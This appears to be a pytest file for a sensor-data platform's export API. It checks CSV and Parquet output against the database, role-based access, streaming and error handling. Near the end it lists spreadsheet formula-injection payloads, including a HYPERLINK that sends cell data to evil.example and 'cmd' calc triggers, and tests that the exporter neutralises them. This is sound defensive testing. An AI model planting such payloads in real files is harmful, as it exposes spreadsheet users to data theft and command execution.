"""GET /api/v1/export and the export module: CSV and Parquet equal the database, streamed."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import psycopg
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from psycopg.pq import TransactionStatus

from livinglab_platform.access import Principal
from livinglab_platform.core.errors import InvalidInputError
from livinglab_platform.data import cells, exports, queries, rawcopy
from livinglab_platform.data.schemas import Format, Interval
from livinglab_platform.registry.schemas import Role, SensorCreate
from tests.api.readings import fill_rollups, insert_readings, trial_with_windows
from tests.api.world import CLI, T0, World, add_device

DAY = timedelta(days=1)
RAW_SCHEMA = pa.schema(
    [
        ("time", pa.timestamp("us", tz="UTC")),
        ("device_id", pa.string()),
        ("sensor", pa.string()),
        ("quantity", pa.string()),
        ("unit", pa.string()),
        ("value", pa.float64()),
    ]
)


def _params(**extra: object) -> dict[str, object]:
    return {"start": T0.isoformat(), "end": (T0 + DAY).isoformat()} | extra


def _csv_rows(text: str) -> list[list[str]]:
    lines = text.splitlines()
    assert lines[0] == "time,device_id,sensor,quantity,unit,value"
    return list(csv.reader(lines[1:]))


def _parquet(content: bytes) -> pa.Table:
    return pq.read_table(io.BytesIO(content))


def _device_with_readings(
    world: World,
    device_id: str,
    org: str,
    n: int,
    step: timedelta = timedelta(minutes=1),
) -> int:
    with psycopg.connect(world.dsn) as conn:
        sensor = add_device(conn, device_id, org)
        insert_readings(conn, sensor, start=T0, n=n, step=step)
        conn.commit()
    return sensor


def _expected(world: World, sensor: int) -> list[tuple[datetime, float]]:
    with psycopg.connect(world.dsn) as conn:
        return [
            (r[0], r[1])
            for r in conn.execute(
                "SELECT time, value FROM readings WHERE sensor_id = %s ORDER BY time",
                (sensor,),
            )
        ]


def test_csv_export_equals_the_database_rows(client, world: World):
    sensor = _device_with_readings(world, "dev-a", "startup-a", 1000)
    r = client.get(
        "/api/v1/export",
        headers=world.headers("operator"),
        params=_params(device="dev-a", interval="raw", format="csv"),
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert (
        r.headers["content-disposition"]
        == 'attachment; filename="livinglab-20260501T000000Z-20260502T000000Z.csv"'
    )
    rows = _csv_rows(r.text)
    assert len(rows) == 1000
    assert rows[0] == [
        "2026-05-01T00:00:00.000000Z",
        "dev-a",
        "pm2_5",
        "pm2_5",
        "ug/m3",
        str(sensor * 1000),
    ]
    assert rows[-1][0] == "2026-05-01T16:39:00.000000Z"
    got = [(datetime.fromisoformat(row[0]), float(row[5])) for row in rows]
    assert got == _expected(world, sensor)


def test_parquet_export_has_the_schema_and_the_database_rows(client, world: World):
    sensor = _device_with_readings(world, "dev-a", "startup-a", 1000)
    r = client.get(
        "/api/v1/export",
        headers=world.headers("partner"),
        params=_params(device="dev-a", interval="raw", format="parquet"),
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/vnd.apache.parquet"
    assert r.headers["content-disposition"].endswith('.parquet"')
    table = _parquet(r.content)
    assert table.schema.equals(RAW_SCHEMA), table.schema
    assert table.num_rows == 1000
    expected = _expected(world, sensor)
    assert (
        list(
            zip(
                table.column("time").to_pylist(),
                table.column("value").to_pylist(),
                strict=True,
            )
        )
        == expected
    )
    assert table.column("time")[0].as_py() == T0
    assert table.column("value")[-1].as_py() == sensor * 1000 + 999 / 4
    assert set(table.column("unit").to_pylist()) == {"ug/m3"}


@pytest.mark.parametrize("who", ["partner", "operator", "viewer"])
def test_hourly_export_equals_sql_aggregates(client, world: World, who: str):
    # 1000 readings, a minute apart, but five a minute in the first 100 minutes (enough for a
    # viewer's minute cells; the other 900 minutes, one reading each, are left out for viewers).
    sensor = _device_with_readings(world, "dev-a", "startup-a", 1000)
    with psycopg.connect(world.dsn) as conn:
        insert_readings(
            conn,
            sensor,
            start=T0 + timedelta(seconds=10),
            n=4 * 100,
            step=timedelta(seconds=15),
        )
        # Operators and viewers read the rollups; a partner's buckets come from raw readings.
        fill_rollups(conn)
        conn.commit()
        least = 5 if who == "viewer" else 1
        expected = conn.execute(
            "SELECT time_bucket('1 hour', time), count(*), avg(value), min(value), max(value)"
            " FROM readings WHERE sensor_id = %s AND time_bucket('1 minute', time) IN ("
            "  SELECT time_bucket('1 minute', time) FROM readings WHERE sensor_id = %s"
            "  GROUP BY 1 HAVING count(*) >= %s)"
            " GROUP BY 1 ORDER BY 1",
            (sensor, sensor, least),
        ).fetchall()
    r = client.get(
        "/api/v1/export",
        headers=world.headers(who),
        params=_params(device="dev-a", interval="1h", format="parquet"),
    )
    assert r.status_code == 200, r.text
    table = _parquet(r.content)
    assert table.schema.field("count").type == pa.int64()
    assert table.schema.field("mean").type == pa.float64()
    got = [
        (row["time"], row["count"], row["mean"], row["min"], row["max"])
        for row in table.to_pylist()
    ]
    assert len(got) == len(expected) == (2 if who == "viewer" else 17)
    for g, e in zip(got, expected, strict=True):
        assert g[0] == e[0]
        assert g[1] == e[1]
        assert g[2] == pytest.approx(e[2])
        assert g[3:] == e[3:]
    # The same buckets as CSV.
    r = client.get(
        "/api/v1/export",
        headers=world.headers(who),
        params=_params(device="dev-a", interval="1h", format="csv"),
    )
    lines = r.text.splitlines()
    assert lines[0] == "time,device_id,sensor,quantity,unit,count,mean,min,max"
    first = next(csv.reader(lines[1:2]))
    assert first[0] == "2026-05-01T00:00:00.000000Z"
    assert int(first[5]) == 5 * 60
    assert len(lines) == 1 + len(expected)


def test_a_partner_gets_only_the_assignment_windows(client, world: World):
    windows = [
        ("dev-b", T0 + timedelta(hours=2), T0 + timedelta(hours=4)),
        ("dev-b", T0 + timedelta(hours=10), T0 + timedelta(hours=11)),
    ]
    with psycopg.connect(world.dsn) as conn:
        # Both devices belong to startup-b; dev-b works for startup-a's trial in two windows.
        for device_id in ("dev-b", "dev-c"):
            sensor = add_device(conn, device_id, "startup-b")
            insert_readings(conn, sensor, start=T0, n=24 * 60)
        trial_id = trial_with_windows(conn, "startup-a", windows)

    def times(r) -> list[datetime]:
        assert r.status_code == 200, r.text
        table = _parquet(r.content)
        assert set(table.column("device_id").to_pylist()) <= {"dev-b"}
        return table.column("time").to_pylist()

    partner = world.headers("partner")
    by_trial = times(
        client.get(
            "/api/v1/export",
            headers=partner,
            params=_params(trial=trial_id, interval="raw", format="parquet"),
        )
    )
    assert len(by_trial) == 120 + 60
    assert all(any(s <= t < e for _, s, e in windows) for t in by_trial)
    assert by_trial[0] == windows[0][1]
    assert by_trial[-1] == windows[1][2] - timedelta(minutes=1)
    # Naming the device instead of the trial opens nothing more.
    by_device = times(
        client.get(
            "/api/v1/export",
            headers=partner,
            params=_params(device="dev-b", interval="raw", format="parquet"),
        )
    )
    assert by_device == by_trial
    # The owner sees all of it; a device of another organisation outside any trial is a 404.
    assert (
        len(
            times(
                client.get(
                    "/api/v1/export",
                    headers=world.headers("other"),
                    params=_params(device="dev-b", interval="raw", format="parquet"),
                )
            )
        )
        == 24 * 60
    )
    r = client.get(
        "/api/v1/export",
        headers=partner,
        params=_params(device="dev-c", interval="raw", format="csv"),
    )
    assert r.status_code == 404
    assert r.headers["content-type"] == "application/json"
    assert "dev-c" in r.json()["detail"]


def test_a_viewer_gets_aggregates_but_no_raw_readings(client, world: World):
    _device_with_readings(world, "dev-a", "startup-a", 120, step=timedelta(seconds=10))
    with psycopg.connect(world.dsn) as conn:
        fill_rollups(conn)  # viewers see whole devices, read from the rollups
    viewer = world.headers("viewer")
    r = client.get(
        "/api/v1/export", headers=viewer, params=_params(device="dev-a", interval="raw")
    )
    assert r.status_code == 403
    assert r.headers["content-type"] == "application/json"
    assert "aggregated" in r.json()["detail"]
    r = client.get(
        "/api/v1/export", headers=viewer, params=_params(device="dev-a", interval="1m")
    )
    assert r.status_code == 200, r.text
    assert len(r.text.splitlines()) == 1 + 20  # six readings a minute


def test_refusals_are_json_errors_not_broken_downloads(client, world: World):
    _device_with_readings(world, "dev-a", "startup-a", 10)
    operator = world.headers("operator")
    cases = [
        (operator, {"sensor": 999_999}, 404),
        (operator, {"device": "dev-a", "start": (T0 + DAY).isoformat()}, 400),
        (operator, {"device": "dev-a", "format": "xlsx"}, 422),
        ({}, {"device": "dev-a"}, 401),
    ]
    for headers, params, status in cases:
        r = client.get(
            "/api/v1/export", headers=headers, params={**_params(), **params}
        )
        assert r.status_code == status, (params, r.text)
        assert r.json()["detail"], params
        assert "content-disposition" not in r.headers


BIG_END = (T0 + 2 * DAY).isoformat()


def _big_world(world: World) -> queries.Plan:
    with psycopg.connect(world.dsn) as conn:
        for device_id in ("dev-a", "dev-b"):
            sensor = add_device(conn, device_id, "startup-a")
            insert_readings(
                conn, sensor, start=T0, n=100_000, step=timedelta(seconds=1)
            )
        conn.commit()
        return queries.plan_query(
            conn,
            CLI,
            queries.DataQuery(
                start=T0,
                end=T0 + 2 * DAY,
                device_ids=("dev-a", "dev-b"),
                interval=Interval.raw,
            ),
        )


@pytest.mark.slow
def test_200k_rows_stream_in_chunks(client, world: World):
    plan = _big_world(world)
    with psycopg.connect(world.dsn) as conn:
        pieces = list(exports.stream(conn, plan, "csv", chunk_rows=20_000))
        assert pieces[0] == b"time,device_id,sensor,quantity,unit,value\n"
        # A small first piece (its first bytes leave at once), then chunk_rows rows a piece.
        assert [p.count(b"\n") for p in pieces[1:]] == [10_000, *[20_000] * 9, 10_000]
        parts = list(exports.stream(conn, plan, Format.parquet, chunk_rows=20_000))
    assert len(parts) == 12  # eleven row groups, then the footer
    parquet = pq.ParquetFile(io.BytesIO(b"".join(parts)))
    assert parquet.metadata.num_row_groups == 11
    assert parquet.metadata.num_rows == 200_000

    # Over HTTP the first chunks arrive while the server-side cursor is still open.
    with (
        psycopg.connect(world.dsn, autocommit=True) as watcher,
        client.stream(
            "GET",
            "/api/v1/export",
            headers=world.headers("operator"),
            params=_params(device=["dev-a", "dev-b"], interval="raw", end=BIG_END),
        ) as r,
    ):
        assert r.status_code == 200
        received = r.iter_raw()
        head = [next(received), next(received)]
        fetching = watcher.execute(
            "SELECT count(*) FROM pg_stat_activity"
            " WHERE datname = current_database() AND query LIKE 'COPY (SELECT to_char%'"
        ).fetchone()
        assert fetching == (1,)
        pieces = head + list(received)
    first = rawcopy.first_rows(rawcopy.RAW_CHUNK_ROWS)
    assert len(pieces) == 2 + -(-(200_000 - first) // rawcopy.RAW_CHUNK_ROWS)
    body = b"".join(pieces).decode()
    assert body.count("\n") == 1 + 200_000
    assert "dev-a" in body
    assert "dev-b" in body


@pytest.mark.slow
def test_an_abandoned_download_closes_its_cursor_before_the_connection_is_released(
    client, world: World, monkeypatch
):
    _big_world(world)
    closed_in: list[TransactionStatus] = []
    stream = exports.stream

    def watched(conn, plan, fmt, **options):
        try:
            yield from stream(conn, plan, fmt, **options)
        finally:
            closed_in.append(conn.info.transaction_status)

    monkeypatch.setattr(exports, "stream", watched)
    request = {
        "headers": world.headers("operator"),
        "params": _params(
            device=["dev-a", "dev-b"], interval="raw", format="parquet", end=BIG_END
        ),
    }
    with client.stream("GET", "/api/v1/export", **request) as r:
        next(r.iter_raw())
    # Closed by the request, its read transaction ended with it: not later by the garbage
    # collector, on a connection that may be inside another request's transaction by then.
    assert closed_in == [TransactionStatus.IDLE]
    with psycopg.connect(world.dsn, autocommit=True) as watcher:
        busy = watcher.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND state <> 'idle' AND pid <> pg_backend_pid()"
        ).fetchone()
    assert busy == (0,)
    r = client.get("/api/v1/export", **request)
    assert r.status_code == 200
    assert _parquet(r.content).num_rows == 200_000


class _Pipe:
    """A write-only stream: no seek, tell or closed, like a pipe behind a thin wrapper."""

    def __init__(self) -> None:
        self.data = bytearray()

    def write(self, b: bytes) -> int:
        self.data += b
        return len(b)


def test_writers_need_only_write_and_report_progress(world: World):
    sensor = _device_with_readings(world, "dev-a", "startup-a", 2500)
    with psycopg.connect(world.dsn) as conn:
        plan = queries.plan_query(
            conn,
            CLI,
            queries.DataQuery(
                start=T0, end=T0 + 2 * DAY, sensor_ids=(sensor,), interval=Interval.raw
            ),
        )
        seen: list[int] = []
        pipe = _Pipe()
        assert (
            exports.write_parquet(
                conn, plan, pipe, on_rows=seen.append, chunk_rows=1000
            )
            == 2500
        )
        assert seen == [1000, 1000, 500]
        assert pq.ParquetFile(io.BytesIO(bytes(pipe.data))).metadata.num_row_groups == 3
        seen.clear()
        pipe = _Pipe()
        assert exports.write_csv(conn, plan, pipe, on_rows=seen.append) == 2500
        assert seen == [2500]
        assert bytes(pipe.data).count(b"\n") == 2501
        with pytest.raises(InvalidInputError, match="csv or parquet"):
            list(exports.stream(conn, plan, "xlsx"))


def test_an_empty_export_is_a_valid_file(world: World):
    sensor = _device_with_readings(world, "dev-a", "startup-a", 0)
    with psycopg.connect(world.dsn) as conn:
        plan = queries.plan_query(
            conn,
            CLI,
            queries.DataQuery(
                start=T0, end=T0 + DAY, sensor_ids=(sensor,), interval=Interval.h1
            ),
        )
        pipe = _Pipe()
        assert exports.write_parquet(conn, plan, pipe) == 0
        table = pq.read_table(io.BytesIO(bytes(pipe.data)))
        assert table.num_rows == 0
        assert table.column_names == list(plan.columns)
        assert b"".join(exports.stream(conn, plan, "csv")) == (
            b"time,device_id,sensor,quantity,unit,count,mean,min,max\n"
        )


def test_estimates_follow_rollups_windows_and_buckets(world: World):
    with psycopg.connect(world.dsn) as conn:
        sensor = add_device(conn, "dev-b", "startup-b")
        insert_readings(conn, sensor, start=T0, n=24 * 60)
        trial_id = trial_with_windows(
            conn,
            "startup-a",
            [("dev-b", T0 + timedelta(hours=2), T0 + timedelta(hours=5))],
        )
        conn.execute("ANALYZE readings")
        partner = Principal(
            person_id=world.person_ids["partner"],
            name="Partner",
            organisation_id="startup-a",
            role=Role.partner,
        )

        def plan(who: Principal, interval: Interval = Interval.raw) -> queries.Plan:
            return queries.plan_query(
                conn,
                who,
                queries.DataQuery(
                    start=T0, end=T0 + DAY, trial_id=trial_id, interval=interval
                ),
            )

        # Without rollups (readings loaded behind the ingest service's back): the planner's guess.
        assert exports.estimate_rows(conn, plan(CLI)) > 0
        fill_rollups(conn)
        assert exports.estimate_rows(conn, plan(CLI)) == 3 * 60
        assert exports.estimate_rows(conn, plan(partner)) == 3 * 60
        assert exports.estimate_rows(conn, plan(CLI, Interval.m15)) == 24 * 4
        rows = sum(len(c) for c in queries.rows(conn, plan(partner)))
        assert rows == 3 * 60


@pytest.mark.parametrize("path", ["/api/v1/data", "/api/v1/export"])
def test_moments_outside_the_years_1_to_9999_in_utc_are_invalid_input(
    client, world: World, path: str
):
    # 9999-12-31T23:59:59-14:00 is in the year 10000 in UTC: the review's /export answered 500.
    _device_with_readings(world, "dev-a", "startup-a", 10)
    operator = world.headers("operator")
    cases = [
        ({"end": "9999-12-31T23:59:59-14:00"}, "end"),
        ({"start": "0001-01-01T00:00:00+01:00"}, "start"),
        ({"start": "0001-01-01T00:30:00+01:00", "end": T0.isoformat()}, "start"),
    ]
    for params, field in cases:
        r = client.get(
            path,
            headers=operator,
            params={**_params(device="dev-a", interval="1d"), **params},
        )
        assert r.status_code == 422, (params, r.text)
        assert [e["field"] for e in r.json()["errors"]] == [field], r.text
    # The last moment of the year 9999 is fine, its day's bucket included.
    r = client.get(
        path,
        headers=operator,
        params=_params(device="dev-a", interval="1d", end="9999-12-31T23:59:59Z"),
    )
    assert r.status_code == 200, r.text


# Text a partner controls, as a spreadsheet would run it: OWASP's formula triggers.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_are_never_formulas(client, world: World):
    # The registry takes such text for a sensor's quantity and unit (a partner registers them).
    for text in FORMULAS:
        SensorCreate(key="x", quantity=text, unit=text[:30])
    with psycopg.connect(world.dsn) as conn:
        add_device(conn, "dev-a", "startup-a")
        for i, text in enumerate(FORMULAS):
            sensor = conn.execute(
                "INSERT INTO sensors (device_id, key, quantity, unit) VALUES ('dev-a', %s, %s, %s)"
                " RETURNING id",
                (f"s{i}", text, text[:30]),
            ).fetchone()[0]
            conn.execute(
                "INSERT INTO readings (time, sensor_id, value) VALUES (%s, %s, -5.25)",
                (T0 + timedelta(minutes=i), sensor),
            )
        fill_rollups(conn)
        conn.commit()
    operator = world.headers("operator")
    for interval in ("raw", "1h"):
        r = client.get(
            "/api/v1/export",
            headers=operator,
            params=_params(device="dev-a", interval=interval, format="csv"),
        )
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
        assert len(rows) == len(FORMULAS)
        assert sorted(row["quantity"] for row in rows) == sorted(
            "'" + text for text in FORMULAS
        )
        for row in rows:
            assert row["unit"] == "'" + row["quantity"][1:31]
            # Numbers stay numbers: a negative reading is not a formula.
            assert float(row["value" if interval == "raw" else "mean"]) == -5.25
            assert row["value" if interval == "raw" else "min"] == "-5.25"
    # Parquet keeps the text exactly as registered.
    r = client.get(
        "/api/v1/export",
        headers=operator,
        params=_params(device="dev-a", interval="raw", format="parquet"),
    )
    assert sorted(_parquet(r.content).column("quantity").to_pylist()) == sorted(
        FORMULAS
    )


def test_arrow_and_python_make_the_same_cells_safe():
    texts = [*FORMULAS, "", "'", "pm2_5", "a=b", " =1", "\n=1", "-", "ug/m3"]
    table = cells.text_columns(
        pa.table({"text": pa.array(texts), "value": pa.array([-1.5] * len(texts))})
    )
    assert table.column("text").to_pylist() == [cells.text_cell(t) for t in texts]
    assert table.column("value").to_pylist() == [-1.5] * len(texts)
    assert [cells.text_cell(t) for t in ("", "pm2_5", " =1", "-")] == [
        "",
        "pm2_5",
        " =1",
        "'-",
    ]
